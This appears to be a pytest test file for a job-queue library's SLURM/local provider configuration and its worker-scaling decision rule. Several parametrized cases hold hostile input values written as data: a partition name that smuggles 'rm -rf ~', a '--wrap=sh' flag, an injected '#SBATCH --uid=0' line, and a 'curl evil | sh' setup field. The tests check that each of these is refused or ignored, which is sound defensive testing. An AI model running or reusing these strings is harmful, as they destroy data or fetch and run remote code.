"""The provider block of the queue record and the scaler's decision rule: pure, no store."""

from __future__ import annotations

import math

import msgpack
import pytest

from lakeshore.errors import InvalidArgument, RecordError
from lakeshore.model.provider import ProviderConfig
from lakeshore.model.queue_config import QueueConfig
from lakeshore.model.scaling import decide


def test_a_kind_name_is_a_block_with_defaults() -> None:
    conf = QueueConfig(provider="slurm")  # type: ignore[arg-type]
    assert conf.provider == ProviderConfig("slurm")
    assert conf.provider.max_workers == 4 and conf.provider.jobs_per_worker == 10
    assert QueueConfig().provider is None


def test_provider_fields_change_one_at_a_time_and_keep_the_rest() -> None:
    conf = QueueConfig().with_changes(provider={"kind": "slurm", "partition": "gpu"})
    conf = conf.with_changes(**{"provider.max_workers": 8, "provider.time_limit": "1:00:00"})
    assert conf.provider == ProviderConfig(
        "slurm", max_workers=8, partition="gpu", time_limit="1:00:00"
    )
    again = QueueConfig.from_bytes(conf.to_bytes())
    assert again.provider == conf.provider and again.rev == conf.rev
    assert conf.with_changes(provider=None).provider is None
    # a number given on the command line is a word to SLURM
    assert conf.with_changes(**{"provider.partition": 2024}).provider.partition == "2024"  # type: ignore[union-attr]


def test_provider_fields_need_a_provider() -> None:
    with pytest.raises(InvalidArgument, match="has no provider"):
        QueueConfig().with_changes(**{"provider.max_workers": 3})
    conf = QueueConfig().with_changes(provider="local", **{"provider.max_workers": 3})
    assert conf.provider == ProviderConfig("local", max_workers=3)


@pytest.mark.parametrize(
    ("block", "match"),
    [
        ({"kind": "kubernetes"}, "kind must be one of"),
        ({"max_workers": 2}, "no provider kind"),
        ({"kind": "local", "nodes": 3}, "unknown provider setting"),
        ({"kind": "local", "max_workers": 0}, "max_workers must be"),
        ({"kind": "local", "max_workers": 10_001}, "max_workers must be"),
        ({"kind": "local", "max_workers": True}, "max_workers must be"),
        ({"kind": "local", "max_workers": 2.0}, "max_workers must be"),
        ({"kind": "local", "min_workers": 5}, "unknown provider setting"),
        ({"kind": "local", "jobs_per_worker": 0}, "jobs_per_worker"),
        ({"kind": "local", "cooldown_s": math.nan}, "cooldown_s"),
        ({"kind": "local", "idle_exit_s": math.inf}, "idle_exit_s"),
        ({"kind": "local", "idle_exit_s": 0.5}, "idle_exit_s"),
        ({"kind": "local", "grace_s": -1}, "grace_s"),
        ({"kind": "local", "concurrency": 5000}, "concurrency"),
        ({"kind": "local", "partition": "gpu"}, "only for kind 'slurm'"),
        ({"kind": "slurm", "partition": "gpu; rm -rf ~"}, "one word"),
        ({"kind": "slurm", "partition": "--wrap=sh"}, "one word"),
        ({"kind": "slurm", "account": "a" * 129}, "one word"),
        ({"kind": "slurm", "cpus_per_task": 0}, "cpus_per_task"),
        ("", "kind must be one of"),
        (["slurm"], "kind name, a map"),
    ],
)
def test_bad_provider_blocks_are_refused(block: object, match: str) -> None:
    with pytest.raises(InvalidArgument, match=match):
        QueueConfig().with_changes(provider=block)


@pytest.mark.parametrize(
    "provider",
    [
        {"kind": "slurm", "partition": "x\n#SBATCH --uid=0"},
        {"kind": "local", "max_workers": 1e9},
        {"kind": msgpack.ExtType(1, b"x")},
        {1: 2},
        "kubernetes",
        7,
    ],
)
def test_a_hostile_provider_in_a_stored_record_is_refused(provider: object) -> None:
    data = msgpack.packb({"v": 1, "provider": provider})
    with pytest.raises(RecordError, match="not a valid queue record"):
        QueueConfig.from_bytes(data)


@pytest.mark.parametrize(
    ("extra", "kind"),
    [({"new": 1}, "local"), ({"setup": "curl evil | sh"}, "slurm"), ({"launch": "rm"}, "command")],
)
def test_fields_a_provider_block_does_not_have_are_never_read(extra: dict, kind: str) -> None:
    """A newer lakeshore's field is left for it; shell text has no field to land in."""
    data = msgpack.packb({"v": 1, "provider": {"kind": kind, "max_workers": 2, **extra}})
    assert QueueConfig.from_bytes(data).provider == ProviderConfig(kind, max_workers=2)


def test_an_old_record_with_provider_ref_still_reads() -> None:
    conf = QueueConfig.from_bytes(msgpack.packb({"v": 1, "providerRef": "x", "max_depth": 3}))
    assert conf.provider is None and conf.max_depth == 3


def test_public_and_describe_show_what_is_set() -> None:
    block = ProviderConfig("slurm", partition="debug", max_workers=6)
    assert block.public()["partition"] == "debug" and "account" not in block.public()
    assert block.describe() == (
        "slurm, up to 6 workers, 10 jobs each, idle exit 60 s (partition=debug)"
    )
    assert QueueConfig(provider=block).public()["provider"] == block.public()


B = ProviderConfig("slurm", max_workers=4, jobs_per_worker=10, cooldown_s=30)


@pytest.mark.parametrize(
    ("live", "running", "pending", "kw", "expect"),
    [
        (0, 0, 0, {}, (0, 0, 0)),  # nothing to do: nothing launched
        (1, 0, 0, {}, (1, 1, 0)),  # one job wants one worker
        (25, 0, 0, {}, (3, 3, 0)),  # ceil(25 / 10)
        (300, 0, 0, {}, (4, 4, 0)),  # the queue's maximum
        (300, 2, 2, {}, (4, 0, 0)),  # waiting workers count: no more submitted
        (300, 1, 0, {}, (4, 3, 0)),
        (300, 1, 0, {"since_launch": 10.0}, (4, 0, 0)),  # cooling down
        (300, 1, 0, {"since_launch": 30.0}, (4, 3, 0)),
        (300, 0, 0, {"cap": 6, "fleet": 5}, (4, 1, 0)),  # the scaler's cap over its queues
        (300, 0, 0, {"cap": 6, "fleet": 6}, (4, 0, 0)),
        (0, 1, 3, {}, (0, 0, 3)),  # nothing live: waiting workers go, running ones stay
        (5, 0, 3, {}, (1, 0, 0)),  # a dip: the waiting keep their place in the queue
        (0, 2, 0, {}, (0, 0, 0)),  # running workers leave by idle exit
    ],
)
def test_the_decision_rule(
    live: int, running: int, pending: int, kw: dict[str, float], expect: tuple[int, int, int]
) -> None:
    d = decide(B, live, running, pending, **kw)  # type: ignore[arg-type]
    assert (d.wanted, d.launch, d.cancel) == expect
    assert d.why
